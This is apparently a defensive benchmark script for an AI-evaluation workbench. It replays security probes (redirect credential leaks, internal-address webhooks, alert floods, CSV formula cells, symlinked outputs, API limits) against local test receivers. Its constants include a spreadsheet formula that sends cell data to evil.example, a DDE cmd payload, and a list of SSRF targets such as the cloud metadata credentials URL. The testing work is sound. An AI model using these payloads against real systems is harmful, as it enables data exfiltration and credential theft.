"""What leaves the workbench (issue 54), every probe of the issue replayed against local
receivers (``tests/receivers.py``: a threaded http.server on 127.0.0.1 answering 204, 500,
a 302, never, or one byte every second), on throw-away stores, with the figures printed:

1. ``push``: ``export-verdicts --push`` to a receiver answering 302 to another port, for
   Langfuse, Phoenix and OTLP, keys in the environment: exit code, what the command said,
   what reached the redirect's target (the issue: exit 0 "sent 42 scores", the target got
   ``Authorization: Basic <pk:sk>``);
2. ``addresses``: webhooks and pushes to internal and oddly written addresses: how many were
   refused when saved and when used;
3. ``credential``: a webhook with ``user:pw@`` refused; a store at migration 0008 holding
   one in a rule and 5 alerts, upgraded: rows still holding the secret;
4. ``stall``: rules ``hang``, ``drip`` and ``good``, 20 violations: when ``good`` had all 20
   (the issue: 0 of 20 after ~150 s);
5. ``flood``: 5,000 violations x 2 rules whose receiver answers 500, the deliverer running
   ``--seconds`` (27 as in the issue): POSTs the receiver got (was 2,577), alerts waiting,
   dropped, rows in the table (was 10,000);
6. ``csv``: the issue's cells (``=HYPERLINK(...)`` note, ``-2+3+cmd|`` case id) through the
   Review download's rows, ``annotate export`` and ``scaling-outcomes``: cells a spreadsheet
   would run, before (plain pandas) and now;
7. ``out``: a symlinked ``--out`` for the five commands: files written through the link;
8. ``api``: one request retried 5 times with one Idempotency-Key (and without): traces
   stored; one 3 MiB blocked contract call: bytes of its log line; 100 checks at once:
   answered 200 / 429;
9. ``complibench``: a conversation whose last case passes the line limit (made 60 KB here):
   refused before writing, naming the case.

    .venv/bin/python bench/outbound.py [--seconds 27]
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import os
import shutil
import sys
import tempfile
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

import pandas as pd  # noqa: E402
import pytest  # noqa: E402

from tests.export_fixtures import DEMO, demo_as_otel  # noqa: E402
from tests.receivers import Receiver  # noqa: E402
from workbench.cli import main as cli  # noqa: E402

HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&B2,"details")'
CMD = "-2+3+cmd|' /C calc'!A0"
INTERNAL = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://[fd00:ec2::254]/latest/meta-data/", "http://127.0.0.1:9/h", "http://[::1]:9/h",
            "http://0x7f000001/h", "http://2130706433/h", "http://0177.0.0.1/h", "http://127.1/h",
            "http://10.0.0.5/h", "http://192.168.1.5/h", "http://100.64.0.1/h",
            "http://0.0.0.0:9/h", "http://localhost:9/h", "http://[::ffff:127.0.0.1]:9/h"]


def run(argv: list[str]) -> tuple[int, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli(argv)
    return code, (out.getvalue() + err.getvalue()).strip()


def push(tmp: Path) -> None:
    traces, spans, _ = demo_as_otel(tmp)
    print("1. push to a receiver answering 302 (keys in the environment)")
    for fmt in ("langfuse", "phoenix", "otlp"):
        with Receiver() as target, Receiver(f"redirect:{target.url}/redir") as first:
            code, said = run(["export-verdicts", str(traces), "--cases", str(spans),
                              "--cases-format", "otel", "--format", fmt, "--push", first.url])
            keys = sum("authorization" in r.headers for r in target.requests)
        last = said.splitlines()[-1]
        print(f"   {fmt:<9} exit {code}; the target got {len(target.requests)} requests, "
              f"{keys} with a key; said: {last[:last.find(' delivered') + 10]} ... "
              f"{last[last.find('answered'):][:60]}")


def addresses(eng, admin) -> None:
    from store import alerts
    from workbench.alerts.destinations import OutboundError
    from workbench.alerts.outbound import post_json
    from workbench.alerts.rules import AlertRule, RuleKind

    saved = used = 0
    for i, url in enumerate(INTERNAL):
        try:
            alerts.add_rule(eng, AlertRule(f"internal-{i}", RuleKind.VIOLATION, webhook=url),
                            actor=admin)
        except OutboundError:
            saved += 1
        try:
            post_json(url, {"x": 1}, deadline_s=2)
        except OutboundError:
            used += 1
    print(f"2. internal or odd addresses: {saved} of {len(INTERNAL)} refused when saved, "
          f"{used} of {len(INTERNAL)} when used (nothing sent)")


def credential(tmp: Path, eng, admin) -> None:
    from alembic import command
    from sqlalchemy import create_engine, text

    from store import alerts
    from store.db import migrations_config
    from workbench.alerts.destinations import OutboundError
    from workbench.alerts.rules import AlertRule, RuleKind

    try:
        alerts.add_rule(eng, AlertRule("cred", RuleKind.VIOLATION,
                                       webhook="http://user:pw-s3cret@hooks.example.com/a"),
                        actor=admin)
        refused = "saved"
    except OutboundError:
        refused = "refused"
    old = create_engine(f"sqlite:///{tmp / 'old.db'}")
    with old.begin() as conn:
        command.upgrade(migrations_config(conn), "0008")
        conn.execute(text("INSERT INTO alert_rule (id, name, kind, policy, probability, \"window\", "
                          "share, dataset, webhook, created_by, created_at, silenced_by, above, "
                          "removed) VALUES (1, 'md', 'violation', '', 0.1, 50, 0.2, '', :w, 'root', "
                          "'2026-12-01', '', 0, 0)"), {"w": "http://user:pw-s3cret@hooks.example.com/a"})
        for n in range(5):
            conn.execute(text("INSERT INTO alert (rule_id, key, dataset, case_id, summary, "
                              "payload_json, fired_at, delivery, webhook, attempts, last_error, "
                              "ack_by) VALUES (1, :k, 'd', 'c', 's', '{}', '2026-12-01', 'pending', "
                              ":w, 0, '', '')"), {"k": f"k{n}", "w": "http://user:pw-s3cret@hooks.example.com/a"})
    with old.begin() as conn:
        command.upgrade(migrations_config(conn), "0009")
    with old.connect() as conn:
        held = sum("s3cret" in " ".join(map(str, row)) for table in ("alert_rule", "alert")
                   for row in conn.execute(text(f"SELECT * FROM {table}")).all())
        env = conn.execute(text("SELECT auth_env FROM alert_rule")).scalar()
    old.dispose()
    print(f"3. credential in the webhook: {refused} when added; an old store upgraded: {held} of "
          f"6 rows still hold it (the rule reads {env})")


def stall(eng, admin) -> None:
    from store import alerts
    from tests.test_alerts import judged
    from workbench.alerts.rules import AlertRule, RuleKind

    with Receiver("hang") as hang, Receiver("drip") as drip, Receiver() as good:
        for name, r in (("hang", hang), ("drip", drip), ("good", good)):
            alerts.add_rule(eng, AlertRule(name, RuleKind.VIOLATION, webhook=r.url + "/h"),
                            actor=admin)
        started = time.monotonic()
        alerts.check_audited(eng, "stall", [judged(f"s{i}", True, 0.99) for i in range(20)])
        while len(good.posts) < 20 and time.monotonic() - started < 150:
            time.sleep(0.05)
        took = time.monotonic() - started
        time.sleep(1)
        print(f"4. stall: good had {len(good.posts)} of 20 after {took:.2f} s "
              f"(hang got {len(hang.posts)} posts, drip {len(drip.posts)})")
        alerts.stop_deliverers()
        for name in ("hang", "drip", "good"):
            alerts.remove_rule(eng, name, actor=admin)


def flood(tmp: Path, admin, seconds: float) -> None:
    from sqlmodel import Session, func, select

    from store import alerts
    from store.alert_tables import AlertRow
    from store.db import make_engine
    from tests.test_alerts import judged
    from workbench.alerts.rules import AlertRule, RuleKind

    eng = make_engine(f"sqlite:///{tmp / 'flood.db'}")
    with Receiver("status:500") as bad:
        for name in ("a", "b"):
            alerts.add_rule(eng, AlertRule(name, RuleKind.VIOLATION, webhook=f"{bad.url}/{name}"),
                            actor=admin)
        started = time.monotonic()
        alerts.check_audited(eng, "flood", [judged(f"f{i:05d}", True, 0.99) for i in range(5000)])
        stored_s = time.monotonic() - started
        time.sleep(max(0.0, seconds - stored_s))
        with Session(eng) as session:
            def count(**where) -> int:
                stmt = select(func.count()).select_from(AlertRow)
                for k, v in where.items():
                    stmt = stmt.where(getattr(AlertRow, k) == v)
                return int(session.exec(stmt).one())
            rows, pending, dropped = count(), count(delivery="pending"), count(delivery="dropped")
        counted = sum(row.dropped for _r, row in alerts.rules(eng))
        print(f"5. flood: 5,000 violations x 2 rules, receiver answering 500, {seconds:g} s: "
              f"{len(bad.posts)} POSTs received; {pending:,} alerts waiting (cap "
              f"{alerts.OUTBOX_CAP} a rule), {counted:,} dropped unsent and counted on the rules "
              f"({dropped:,} of them still listed); {rows:,} rows in the alert table (kept: "
              f"{alerts.KEEP_ALERTS:,} a rule); recording took {stored_s:.1f} s")
        alerts.stop_deliverers()
    eng.dispose()


def dangerous(text: str) -> int:
    from workbench.export.sheets import formula_cells

    return len(formula_cells(text))


def csv_cells(tmp: Path, mp) -> None:
    from store.annotation import add_labels
    from store.db import make_engine
    from workbench.annotation.labels import RULE_CORRECTNESS, Label
    from workbench.export.sheets import frame_csv
    from workbench.identity.roles import COMMAND_LINE

    rows = pd.DataFrame([{"reviewer": "ana", "case": CMD, "decision": "overturn",
                          "note": HYPERLINK, "record": 1}])
    review = (dangerous(rows.to_csv(index=False)), dangerous(frame_csv(rows)))
    url = f"sqlite:///{tmp / 'ann.db'}"
    eng = make_engine(url)
    add_labels(eng, [Label("desk/R1", RULE_CORRECTNESS, "@mallory", "incorrect", note=HYPERLINK,
                           error_type="wrong_action")], actor=COMMAND_LINE)
    eng.dispose()
    run(["annotate", "export", "--db", url, "--format", "csv", "--out", str(tmp / "labels.csv")])
    cases = [json.loads(x) for x in (DEMO / "cases.jsonl").read_text().splitlines()]
    traces = [json.loads(x) for x in (DEMO / "traces_cdg.jsonl").read_text().splitlines()]
    for c in cases:
        c["session"] = HYPERLINK
    for t in traces:
        t["id"] = CMD + t["id"]
    for c in cases:
        c["id"] = CMD + c["id"]
    (tmp / "c.jsonl").write_text("".join(json.dumps(c) + "\n" for c in cases))
    (tmp / "t.jsonl").write_text("".join(json.dumps(t) + "\n" for t in traces))
    run(["scaling-outcomes", str(tmp / "t.jsonl"), "--cases", str(tmp / "c.jsonl"), "--index",
         str(DEMO / "index.json"), "--params-b", "1.5", "--out", str(tmp / "o.csv")])
    outcomes = pd.read_csv(tmp / "o.csv", dtype=str, keep_default_na=False)
    raw = outcomes.map(lambda v: v[1:] if v.startswith("'") else v)  # as plain pandas wrote it
    print(f"6. formula cells: Review download {review[0]} before, {review[1]} now; annotate "
          f"export {dangerous((tmp / 'labels.csv').read_text())} now; scaling-outcomes "
          f"{dangerous(raw.to_csv(index=False))} before, {dangerous((tmp / 'o.csv').read_text())} "
          f"now ({len(outcomes)} rows)")


def outs(tmp: Path) -> None:
    db = f"sqlite:///{tmp / 'o.db'}"
    commands = {
        "export-verdicts": ["export-verdicts", str(DEMO / "traces_cdg.jsonl"), "--format", "otlp"],
        "annotate export": ["annotate", "export", "--db", db],
        "annotate report": ["annotate", "report", "--index", str(DEMO / "index.json"), "--db", db],
        "graph export": ["graph", "export", str(DEMO / "index.json")],
        "scaling-outcomes": ["scaling-outcomes", str(DEMO / "traces_cdg.jsonl"), "--cases",
                             str(DEMO / "cases.jsonl"), "--index", str(DEMO / "index.json"),
                             "--params-b", "1.5"],
    }
    through, codes = 0, []
    for name, argv in commands.items():
        victim = tmp / f"victim-{len(codes)}.txt"
        victim.write_text("precious\n")
        link = tmp / f"out-{len(codes)}.csv"
        link.symlink_to(victim)
        flag = "--out-csv" if name == "annotate report" else "--out"
        code, _ = run([*argv, flag, str(link)])
        codes.append(code)
        through += victim.read_text() != "precious\n"
    print(f"7. symlinked --out: {through} of {len(commands)} commands wrote through the link; "
          f"exit codes {codes}")


def api(tmp: Path) -> None:
    from fastapi.testclient import TestClient

    from tests.test_api import CANCEL, judge
    from tests.test_api_outbound import _blocked_call
    from workbench.api.app import create_app
    from workbench.api.contracts import ContractGuard
    from workbench.api.idempotency import Idempotent
    from workbench.api.service import AuditService, MemoryTraceStore
    from workbench.api.settings import ApiSettings
    from workbench.audit.policy import AuditIndex
    from workbench.contracts import ContractCheckLog, load_contract
    from workbench.graph import PolicyIndex
    from workbench.identity.roles import Actor
    from workbench.llm import Gateway, load_config
    from workbench.llm.fake_server import FakeChatServer, role_env

    actor = Actor.signed_in("api", "analyst")
    index = AuditIndex(PolicyIndex.load(DEMO / "index.json"))
    with FakeChatServer(default=judge) as srv:
        gateway = Gateway(load_config(env=role_env(srv.api_base, role="judge", retries=0)))
        keyed, plain = MemoryTraceStore(), MemoryTraceStore()
        service = Idempotent(AuditService(index, gateway, keyed))
        threads = [threading.Thread(target=service.audit, args=(CANCEL, "retry-me"),
                                    kwargs={"actor": actor}) for _ in range(5)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        bare = AuditService(index, gateway, plain)
        for _ in range(5):
            bare.audit(CANCEL, actor=actor)
        gateway.close()
    contract = load_contract(ROOT / "fixtures" / "contracts" / "airline.yaml")
    log = ContractCheckLog(tmp / "checks.jsonl")
    app = create_app(type("S", (), {"store_takes_actor": True})(), ApiSettings(),
                     ContractGuard({contract.name: contract}, log))
    with TestClient(app) as http:
        http.post(f"/v1/contracts/{contract.name}/check", json=_blocked_call(3 * 1024 * 1024))
        size = (tmp / "checks.jsonl").stat().st_size
        codes = [http.post(f"/v1/contracts/{contract.name}/check", json=_blocked_call()).status_code
                 for _ in range(100)]
    print(f"8. API: 5 tries with one Idempotency-Key stored {len(keyed.items)} trace(s) "
          f"(without a key: {len(plain.items)}); a 3 MiB blocked call made a {size:,}-byte log "
          f"line; 100 checks in a row: {codes.count(200)} answered, {codes.count(429)} told 429")


def complibench(tmp: Path, mp) -> None:
    from workbench.audit.importers import complibench as module

    src = tmp / "cb"
    shutil.copytree(ROOT / "fixtures" / "audit" / "complibench" / "airlines", src)
    first = sorted(src.glob("conversation_*.json"))[0]
    data = json.loads(first.read_text())
    for m in data["message_list"]:
        m["content"] = (m.get("content") or "") + " padding" * 1000
    first.write_text(json.dumps(data))
    mp.setattr(module, "MAX_LINE_BYTES", 60_000)
    code, said = run(["import-complibench", str(src), "--out", str(tmp / "cb-out")])
    print(f"9. import-complibench, a case past the line limit (60 KB here): exit {code}, "
          f"written: {(tmp / 'cb-out').exists()}; {said[:150]}")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--seconds", type=float, default=27.0,
                        help="how long the failing receiver is posted to (default 27, as in the issue)")
    args = parser.parse_args()
    from store.db import make_engine
    from workbench.identity.roles import Actor

    admin = Actor.signed_in("ada", "admin")
    with tempfile.TemporaryDirectory() as folder, pytest.MonkeyPatch.context() as mp:
        tmp = Path(folder)
        mp.chdir(tmp)  # no workbench.toml of the checkout
        mp.setenv("WORKBENCH_CONFIG", str(tmp / "none.toml"))
        mp.setenv("WORKBENCH_DB", f"sqlite:///{tmp / 'w.db'}")
        mp.setenv("LANGFUSE_PUBLIC_KEY", "pk-lf-probe")
        mp.setenv("LANGFUSE_SECRET_KEY", "sk-lf-probe")
        mp.setenv("PHOENIX_API_KEY", "px-probe")
        mp.setenv("OTEL_EXPORTER_OTLP_HEADERS", "authorization=Bearer%20otlp-probe")
        eng = make_engine(os.environ["WORKBENCH_DB"])
        mp.setenv("WORKBENCH_OUTBOUND_ALLOW", "127.0.0.1")  # the local receivers
        push(tmp)
        mp.delenv("WORKBENCH_OUTBOUND_ALLOW")  # nothing internal allowed
        addresses(eng, admin)
        credential(tmp, eng, admin)
        mp.setenv("WORKBENCH_OUTBOUND_ALLOW", "127.0.0.1")
        stall(eng, admin)
        flood(tmp, admin, args.seconds)
        csv_cells(tmp, mp)
        outs(tmp)
        api(tmp)
        complibench(tmp, mp)
        eng.dispose()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
